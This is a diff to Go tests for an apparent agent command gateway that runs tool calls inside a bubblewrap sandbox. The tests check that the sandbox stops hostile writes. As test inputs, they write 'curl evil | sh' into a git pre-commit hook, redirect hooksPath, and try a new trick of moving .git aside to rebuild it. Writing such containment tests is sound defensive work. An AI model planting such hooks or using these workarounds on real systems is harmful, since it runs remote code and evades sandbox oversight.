@@ -162,6 +162,7 @@ func TestServeSandboxContainsAgent(t *testing.T) {
 	})
 	t.Run("git hooks and config", func(t *testing.T) {
 		f.run(t, "mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] hooksPath = /tmp' >> .git/config")
+		f.run(t, "mv .git .git-old; mkdir -p .git/hooks; cp -a .git-old/. .git/; echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] hooksPath = /tmp' >> .git/config")
 		if _, err := os.Stat(filepath.Join(f.ws, ".git", "hooks", "pre-commit")); err == nil {
 			t.Error("a git hook was written")
 		}
@@ -351,7 +352,7 @@ func TestServeSandboxUnavailable(t *testing.T) {
 	f := sbSetup(t, allowAllIn("read-only"))
 	f.c, _, f.stderr = startStdio(t, f.config("sandbox: {bwrap: /nonexistent/bwrap}\n"), f.env()...)
 	out, isErr := f.run(t, "echo should-not-run")
-	if !isErr || strings.Contains(out, "should-not-run") || !strings.Contains(out, "sandbox") {
+	if !isErr || strings.Contains(out, "should-not-run") || !strings.Contains(out, "bubblewrap") || !strings.Contains(out, "sandbox.profiles.none") {
 		t.Fatalf("run_command without a sandbox: %v %s", isErr, out)
 	}
 	if !strings.Contains(f.stderr.String(), "sandbox.profiles.none") {
@@ -397,5 +398,23 @@ func TestServeSandboxedUpstream(t *testing.T) {
 	}
 	if !res.IsError || !strings.Contains(resultText(res), `runs in sandbox profile "upstream"`) {
 		t.Errorf("a call the rules move to another profile: %s", resultText(res))
+	}
+}
+
+// TestServeRelativeConfig: a config given by a relative path works (its
+// path is made absolute before the sandbox hides it).
+func TestServeRelativeConfig(t *testing.T) {
+	f := sbSetup(t, allowAllIn("read-only"))
+	cfg := f.config("")
+	rel, err := filepath.Rel(f.dir, cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(toolgateBin, "serve", "--config", rel)
+	cmd.Dir = f.dir
+	cmd.Env = append(os.Environ(), f.env()...)
+	out, err := cmd.CombinedOutput() // stdin is empty: serve ends at EOF
+	if err != nil || !strings.Contains(string(out), "sandbox ready") {
+		t.Fatalf("serve --config %s: %v\n%s", rel, err, out)
 	}
 }
